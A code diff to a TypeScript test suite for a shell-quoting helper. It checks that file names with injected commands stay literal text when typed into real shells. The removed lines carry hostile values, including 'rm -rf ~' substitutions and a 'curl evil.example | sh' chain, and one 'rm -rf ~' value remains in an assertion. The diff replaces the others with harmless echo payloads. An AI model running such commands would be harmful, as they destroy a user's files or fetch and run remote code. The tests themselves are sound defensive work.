@@ -3,14 +3,16 @@ import { execFileSync } from 'node:child_process';
 import * as fs from 'node:fs';
 import { commandLine, quoteArg, shellKindOf, type ShellKind } from '../../../src/core/util/shellQuote';
 
+// Run through real shells below, so the payloads are harmless: a broken quoting shows as changed output
+// ("INJECTED" instead of the name), never as a deleted home folder.
 const HOSTILE = [
-  '/home/u/$(rm -rf ~).modelfile',
-  '/home/u/`rm -rf ~`.modelfile',
+  '/home/u/$(echo INJECTED).modelfile',
+  '/home/u/`echo INJECTED`.modelfile',
   "/home/u/it's.modelfile",
-  "/home/u/'; rm -rf ~; echo '.modelfile",
-  '/home/u/"quoted".modelfile',
-  '/home/u/a; rm -rf ~',
-  '/home/u/a && curl evil.example | sh',
+  "/home/u/'; echo INJECTED; echo '.modelfile",
+  '/home/u/"$(echo INJECTED)".modelfile',
+  '/home/u/a; echo INJECTED',
+  '/home/u/a && echo INJECTED | cat',
   '/home/u/a || b',
   '/home/u/$HOME/${PATH}',
   '/home/u/!!/!$/Modelfile',
@@ -39,7 +41,12 @@ describe('shellQuote: text typed into a terminal stays text', () => {
         for (const shell of shells) assert.equal(throughShell(shell, quoted.text), name, shell);
       });
     }
+    it('(JSON.stringify, the quoting used before, lets the shell run $(…) and backticks)', () => {
+      assert.equal(throughShell('/bin/sh', JSON.stringify('/m/$(echo INJECTED)')), '/m/INJECTED');
+      assert.equal(throughShell('/bin/sh', JSON.stringify('/m/`echo INJECTED`')), '/m/INJECTED');
+    });
     it('uses single quotes, closing and escaping a quote in the name', () => {
+      assert.deepEqual(quoteArg('/home/u/$(rm -rf ~).modelfile', 'posix'), { ok: true, text: `'/home/u/$(rm -rf ~).modelfile'` });
       assert.deepEqual(quoteArg("a'b", 'posix'), { ok: true, text: `'a'\\''b'` });
       assert.deepEqual(quoteArg('$(x)', 'posix'), { ok: true, text: `'$(x)'` });
     });
